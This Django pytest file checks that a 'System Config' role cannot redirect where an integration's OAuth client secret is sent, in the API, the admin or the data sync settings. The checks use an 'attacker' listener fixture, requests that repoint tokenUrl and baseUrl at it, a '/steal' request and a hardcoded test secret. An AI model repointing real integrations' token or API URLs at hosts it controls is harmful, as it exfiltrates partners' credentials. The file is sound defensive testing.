"""Where a secret goes is a System Admin decision (DESIGN.md, "Roles"). The reproduction of
issue 13's first finding: System Config pointed an integration's tokenUrl at a listener of its
choosing and the next call sent it `partner-client:S3cr3t-only-admins-know`. Now each such
change is refused, in the API and in the admin, and the listener receives nothing."""

import base64
import re

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounting.models import AccountingIntegration
from datasync.models import ProgressRecord
from datasync.services.run import datasync_run
from integration_hub.models import AuditEntry, Customer, Integration, OAuthToken
from integration_hub.outbound import OutboundClient, OutboundPolicyError, ensure_success
from integration_hub.selectors import default_subscriber
from integration_hub.services.credentials import credential_set
from integration_hub.services.customers import customer_create
from integration_hub.services.errors import SECRET_ROUTING_MESSAGE, SecretRoutingRefused
from integration_hub.services.system_settings import setting_set
from integration_hub.system_settings import setting_get
from tests.datasync.conftest import datasync_configure
from tests.factories import AccountingIntegrationFactory, IntegrationFactory, SubscriberFactory

pytestmark = pytest.mark.django_db

SECRET = "S3cr3t-only-admins-know"
BASIC = "Basic " + base64.b64encode(f"partner-client:{SECRET}".encode()).decode()


@pytest.fixture
def partner(listener):
    return listener(token="partner-token")


@pytest.fixture
def attacker(listener):
    return listener(token="attacker-token")


@pytest.fixture
def integration(partner):
    credential_set(key_name="energy", client_id="partner-client", client_secret=SECRET)
    return IntegrationFactory(
        name="Energy Co",
        kind=Integration.Kind.ORGANISATION_KIT,
        base_url=f"{partner.url}/api",
        auth_type=Integration.AuthType.OAUTH2_CLIENT_CREDENTIALS,
        token_url=f"{partner.url}/oauth/token",
        credential_key="energy",
    )


def _call_through(integration: Integration) -> None:
    integration.refresh_from_db()
    ensure_success(OutboundClient.for_integration(integration).get("accounts"))


ROUTING_FIELDS = ["baseUrl", "tokenUrl", "authType", "credentialMap", "credentialKey"]


def _routing_changes(attacker) -> dict:
    return {
        "baseUrl": f"{attacker.url}/api",
        "tokenUrl": f"{attacker.url}/token",
        "authType": "API_KEY",
        "credentialMap": "other_map",
        "credentialKey": "datasync",
    }


@pytest.mark.parametrize("field", ROUTING_FIELDS)
def test_system_config_may_not_change_a_secret_routing_field_in_the_api(
    api_as, system_config, integration, attacker, partner, field
):
    response = api_as(system_config).patch(
        f"/api/v1/integrations/{integration.pk}/",
        {field: _routing_changes(attacker)[field]},
        format="json",
    )

    assert response.status_code == 403
    assert response.json() == {field: [SECRET_ROUTING_MESSAGE]}
    _call_through(integration)
    assert attacker.received == []
    assert partner.authorizations() == [BASIC, "Bearer partner-token-1"]


def test_clearing_a_secret_routing_field_is_refused_too(api_as, system_config, integration):
    response = api_as(system_config).patch(
        f"/api/v1/integrations/{integration.pk}/", {"tokenUrl": ""}, format="json"
    )

    assert response.status_code == 403
    assert response.json() == {"tokenUrl": [SECRET_ROUTING_MESSAGE]}
    integration.refresh_from_db()
    assert integration.token_url.endswith("/oauth/token")


def test_system_config_may_send_the_current_values_and_change_other_fields(
    api_as, system_config, integration
):
    body = {
        "baseUrl": integration.base_url,
        "tokenUrl": integration.token_url,
        "authType": integration.auth_type,
        "credentialMap": integration.credential_map,
        "credentialKey": integration.credential_key,
        "name": "Energy Company",
        "enabled": False,
    }
    response = api_as(system_config).patch(
        f"/api/v1/integrations/{integration.pk}/", body, format="json"
    )

    assert response.status_code == 200, response.json()
    integration.refresh_from_db()
    assert (integration.name, integration.enabled) == ("Energy Company", False)


def test_system_config_may_not_create_an_integration_that_points_anywhere(
    api_as, system_config, attacker
):
    body = {"name": "Mine", "kind": "WEBHOOK", **_routing_changes(attacker)}
    response = api_as(system_config).post("/api/v1/integrations/", body, format="json")

    assert response.status_code == 403
    assert set(response.json()) == set(ROUTING_FIELDS)
    assert not Integration.objects.filter(name="Mine").exists()


def test_system_admin_changes_where_a_secret_goes(api_as, system_admin, integration, attacker):
    response = api_as(system_admin).patch(
        f"/api/v1/integrations/{integration.pk}/",
        {"tokenUrl": f"{attacker.url}/token"},
        format="json",
    )

    assert response.status_code == 200
    integration.refresh_from_db()
    assert integration.token_url == f"{attacker.url}/token"


def test_the_admin_shows_secret_routing_fields_read_only_to_system_config(
    client, system_config, integration, attacker
):
    client.force_login(system_config)
    url = reverse("admin:integration_hub_integration_change", args=[integration.pk])

    page = client.get(url).content.decode()
    assert 'name="name"' in page
    for field in ("base_url", "token_url", "auth_type", "credential_map", "credential_key"):
        assert f'name="{field}"' not in page
    assert integration.base_url in page  # shown, not editable

    response = client.post(
        url,
        {
            "name": "Energy Co",
            "kind": integration.kind,
            "enabled": "on",
            "base_url": f"{attacker.url}/api",
            "token_url": f"{attacker.url}/token",
            "auth_type": "API_KEY",
            "credential_map": "other_map",
            "credential_key": "datasync",
        },
    )
    assert response.status_code == 302
    integration.refresh_from_db()
    assert integration.token_url.endswith("/oauth/token")
    assert integration.base_url.startswith("http://127.0.0.1")
    assert client.get(reverse("admin:integration_hub_integration_add")).status_code == 403
    _call_through(integration)
    assert attacker.received == []


def test_the_admin_lets_system_admin_change_them(client, system_admin, integration, attacker):
    client.force_login(system_admin)
    url = reverse("admin:integration_hub_integration_change", args=[integration.pk])
    response = client.post(
        url,
        {
            "name": "Energy Co",
            "kind": integration.kind,
            "enabled": "on",
            "base_url": integration.base_url,
            "token_url": f"{attacker.url}/token",
            "auth_type": integration.auth_type,
            "credential_map": integration.credential_map,
            "credential_key": integration.credential_key,
        },
    )

    assert response.status_code == 302
    integration.refresh_from_db()
    assert integration.token_url == f"{attacker.url}/token"


def test_system_config_may_not_repoint_an_accounting_integration(
    api_as, client, system_config, system_admin
):
    accounting = AccountingIntegrationFactory()
    elsewhere = IntegrationFactory(name="Elsewhere", kind=Integration.Kind.ACCOUNTING)
    url = f"/api/v1/accounting-integrations/{accounting.pk}/"

    response = api_as(system_config).patch(url, {"integration": elsewhere.pk}, format="json")
    assert response.status_code == 403
    assert response.json() == {"integration": [SECRET_ROUTING_MESSAGE]}
    same = api_as(system_config).patch(
        url, {"integration": accounting.integration_id, "summarizeData": True}, format="json"
    )
    assert same.status_code == 200

    created = api_as(system_config).post(
        "/api/v1/accounting-integrations/",
        {"subscriberId": 1, "integrationType": "XERO", "integration": elsewhere.pk},
        format="json",
    )
    assert created.status_code == 403
    assert created.json() == {"integration": [SECRET_ROUTING_MESSAGE]}
    assert AccountingIntegration.objects.count() == 1

    client.force_login(system_config)
    page = client.get(
        reverse("admin:accounting_accountingintegration_change", args=[accounting.pk])
    ).content.decode()
    assert 'name="integration"' not in page
    assert 'name="summarize_data"' in page
    client.force_login(system_admin)
    page = client.get(
        reverse("admin:accounting_accountingintegration_change", args=[accounting.pk])
    ).content.decode()
    assert 'name="integration"' in page
    assert (
        api_as(system_admin).patch(url, {"integration": elsewhere.pk}, format="json").status_code
        == 200
    )


@pytest.fixture
def datasync_to_partner(partner, tasks):
    datasync_configure(api_url=f"{partner.url}/messages", token_url=f"{partner.url}/token")


DATA_SYNC_ROUTING = [
    "DataSyncApiUrl",
    "DataSyncTokenUrl",
    "DataSyncCredentialMapName",
    "DataSyncCredentialKeyName",
]


@pytest.mark.parametrize("key", DATA_SYNC_ROUTING)
def test_data_sync_settings_that_route_its_secret_are_system_admins_alone(
    client, system_config, datasync_to_partner, attacker, key
):
    value = {
        "DataSyncApiUrl": f"{attacker.url}/messages",
        "DataSyncTokenUrl": f"{attacker.url}/token",
        "DataSyncCredentialMapName": "other_map",
        "DataSyncCredentialKeyName": "energy",
    }[key]
    before = setting_get(key)

    with pytest.raises(SecretRoutingRefused):
        setting_set(key=key, value=value, acting_user=system_config)
    client.force_login(system_config)
    page = reverse("admin:datasync_page")
    assert f'name="{key}"' in client.get(page).content.decode()
    response = client.post(page, {key: value, "DataSyncEnabled": "on"})

    assert response.status_code == 302
    assert setting_get(key) == before
    tag = re.search(rf'<input[^>]*name="{key}"[^>]*>', client.get(page).content.decode())
    assert "disabled" in tag.group(0)


def test_the_data_sync_page_posts_nothing_to_a_listener_system_config_names(
    client, system_config, datasync_to_partner, partner, attacker
):

    client.force_login(system_config)
    saved = client.post(
        reverse("admin:datasync_page"),
        {
            "DataSyncEnabled": "on",
            "DataSyncApiUrl": f"{attacker.url}/messages",
            "DataSyncTokenUrl": f"{attacker.url}/token",
            "DataSyncBatchSize": "100",
            "DataSyncMessagesPerRequest": "1",
            "DataSyncMaxAttempts": "10",
            "DataSyncIntervalMinutes": "5",
        },
    )
    assert saved.status_code == 302  # saved: the URLs it named were not among what it could set
    customer_create(
        subscriber=default_subscriber(), customer_id="C1", first_name="Ada", last_name="Lovelace"
    )
    datasync_run(trigger="MANUAL", honour_backoff=False)

    assert attacker.received == []
    assert [r.path for r in partner.received] == ["/token", "/messages"]
    assert ProgressRecord.objects.count() == 0
    assert Customer.objects.count() == 1


def test_the_shell_acts_as_the_operator(datasync_to_partner, attacker):
    call_command("config", "set", "DataSyncTokenUrl", f"{attacker.url}/token")
    assert setting_get("DataSyncTokenUrl") == f"{attacker.url}/token"


def test_a_cached_token_is_never_sent_to_another_origin(
    api_as, system_admin, integration, partner, listener
):
    _call_through(integration)
    assert OAuthToken.objects.get().origin == partner.url
    moved = listener(token="unused")
    api_as(system_admin).patch(
        f"/api/v1/integrations/{integration.pk}/", {"baseUrl": f"{moved.url}/api"}, format="json"
    )

    _call_through(integration)

    # The token fetched for the partner's API stays there: a new one is fetched for the new
    # origin (from the same token endpoint), and only that one goes to the new host.
    assert moved.authorizations() == ["Bearer partner-token-2"]
    assert [r.path for r in partner.received] == ["/oauth/token", "/api/accounts", "/oauth/token"]
    assert OAuthToken.objects.count() == 2


def test_a_client_never_sends_its_credentials_to_another_origin(integration, attacker):
    client = OutboundClient.for_integration(integration)

    with pytest.raises(OutboundPolicyError, match="origin"):
        client.get(f"{attacker.url}/steal")

    assert attacker.received == []


def test_a_stale_cache_does_not_let_system_config_put_an_old_url_back(
    datasync_to_partner, system_config, partner
):
    """Another process's System Admin moved the token URL; this process still caches the old
    one. Sending the old URL is a change, not "the current value"."""
    from integration_hub.models import SystemSetting

    old = setting_get("DataSyncTokenUrl")
    SystemSetting.objects.filter(key="DataSyncTokenUrl").update(value=f"{partner.url}/v2/token")
    assert setting_get("DataSyncTokenUrl") == old  # this process has not seen it yet

    with pytest.raises(SecretRoutingRefused):
        setting_set(key="DataSyncTokenUrl", value=old, acting_user=system_config)
    assert SystemSetting.objects.get(key="DataSyncTokenUrl").value == f"{partner.url}/v2/token"


def test_system_config_may_not_move_an_accounting_integration_to_another_subscriber(
    api_as, client, system_config
):
    accounting = AccountingIntegrationFactory()
    other = SubscriberFactory()
    url = f"/api/v1/accounting-integrations/{accounting.pk}/"

    response = api_as(system_config).patch(url, {"subscriberId": other.pk}, format="json")

    assert response.status_code == 403
    assert response.json() == {"subscriberId": [SECRET_ROUTING_MESSAGE]}
    accounting.refresh_from_db()
    assert accounting.subscriber_id != other.pk
    client.force_login(system_config)
    page = client.get(
        reverse("admin:accounting_accountingintegration_change", args=[accounting.pk])
    ).content.decode()
    assert 'name="subscriber"' not in page


def _inline_management(prefix: str = "maps") -> dict:
    return {
        f"{prefix}-TOTAL_FORMS": "0",
        f"{prefix}-INITIAL_FORMS": "0",
        f"{prefix}-MIN_NUM_FORMS": "0",
        f"{prefix}-MAX_NUM_FORMS": "1000",
    }


def test_the_admin_saves_accounting_integrations_through_the_services(
    client, system_admin, system_config
):
    books = IntegrationFactory(name="Books", kind=Integration.Kind.ACCOUNTING)
    IntegrationFactory(name="Partner", kind=Integration.Kind.ORGANISATION_KIT)
    client.force_login(system_admin)
    add = reverse("admin:accounting_accountingintegration_add")
    assert "Partner" not in client.get(add).content.decode()  # only ACCOUNTING endpoints
    body = {
        "subscriber": "1",
        "integration_type": "XERO",
        "integration": str(books.pk),
        "enabled": "on",
        **_inline_management(),
    }

    assert client.post(add, body).status_code == 302
    created = AccountingIntegration.objects.get()
    assert AuditEntry.objects.filter(
        action="accounting_integration.created", actor=system_admin
    ).exists()
    clash = client.post(add, body)
    assert clash.status_code == 200
    assert "already has a XERO accounting integration" in clash.content.decode()
    assert AccountingIntegration.objects.count() == 1

    client.force_login(system_config)
    change = reverse("admin:accounting_accountingintegration_change", args=[created.pk])
    saved = client.post(
        change, {"integration_type": "XERO", "summarize_data": "on", **_inline_management()}
    )
    assert saved.status_code == 302
    created.refresh_from_db()
    assert created.summarize_data is True
    assert AuditEntry.objects.filter(
        action="accounting_integration.updated", actor=system_config
    ).exists()
